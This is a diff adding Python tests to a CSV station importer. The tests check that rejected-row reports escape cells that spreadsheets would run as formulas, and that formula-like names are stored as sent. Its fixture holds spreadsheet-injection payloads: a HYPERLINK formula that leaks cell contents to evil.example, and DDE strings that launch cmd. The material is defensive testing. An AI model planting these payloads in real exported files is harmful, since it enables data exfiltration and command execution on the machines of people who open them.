@@ -169,3 +169,38 @@ def test_it_puts_the_geometry_of_rejected_geojson_features_in_the_report(tmp_pat
         rows = {r["row"]: r for r in csv.DictReader(handle)}
     assert (rows["5"]["external_id"], rows["5"]["lon"], rows["5"]["lat"], rows["5"]["charging_sockets"]) == ("P-5", "114.07", "22.56", "many")
     assert (rows["2"]["lon"], rows["4"]["external_id"]) == ("", "4")
+
+
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?"&A1,"详情")',
+    "address": "+cmd|' /C calc'!A0",
+    "operator": "-2+3+cmd|' /C calc'!A0",
+    "phone": "@SUM(1+9)*cmd|' /C calc'!A0",
+}
+
+
+def test_the_rejects_report_neutralises_cells_that_would_run_as_formulas(tmp_path):
+    path = tmp_path / "formulas.csv"
+    with open(path, "w", encoding="utf-8", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["external_id", "name", "lon", "lat", "address", "operator", "phone"])
+        writer.writerow(["=1+1", FORMULAS["name"], "-200.5", "22.54", FORMULAS["address"], FORMULAS["operator"], FORMULAS["phone"]])
+        writer.writerow(["OK-1", "好驿站", "114.05", "22.54", "", "", ""])
+
+    _, _, _ = import_skipping_path(path)
+
+    with open(f"{path}.rejects.csv", encoding="utf-8-sig", newline="") as handle:
+        (reject,) = list(csv.DictReader(handle))
+    assert reject["external_id"] == "'=1+1"
+    assert {column: reject[column] for column in FORMULAS} == {column: "'" + text for column, text in FORMULAS.items()}
+    assert reject["lon"] == "-200.5"  # a number stays a number, so the fixed file imports again
+    assert reject["reason"].startswith("lon -200.5 is out of range")
+
+
+def test_imported_values_that_look_like_formulas_are_stored_as_sent(tmp_path):
+    path = tmp_path / "formula-name.csv"
+    path.write_text(f'external_id,name,lon,lat\nF-1,"{FORMULAS["name"].replace(chr(34), chr(34) * 2)}",114.05,22.54\n', encoding="utf-8")
+
+    run(path, kind="rest_station", coordsys="wgs84", source="x")
+
+    assert Station.objects.get(external_id="F-1").name == FORMULAS["name"]
